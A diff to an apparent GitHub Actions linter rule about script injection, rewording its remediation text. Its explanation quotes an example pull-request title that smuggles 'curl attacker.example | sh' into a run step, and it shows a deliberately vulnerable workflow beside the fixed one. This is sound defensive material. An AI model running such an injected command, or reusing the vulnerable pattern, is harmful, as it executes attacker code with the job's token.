@@ -13,7 +13,7 @@ export default defineRule({
   title: 'Untrusted text becomes part of a script',
   why: 'GitHub puts the value into the script before the shell reads it. A title such as `"; curl attacker.example | sh; "` runs as a command with the token of the job.',
   remediation:
-    'Put the value into `env` of the step, and use the variable in the script: `"$TITLE"`',
+    'Put the value into `env` of the step, and use that variable in the script, in quotation marks',
   references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
   wrong: `on: pull_request\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ github.event.pull_request.title }}"`,
   right: `on: pull_request\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: \${{ github.event.pull_request.title }}\n        run: echo "$TITLE"`,
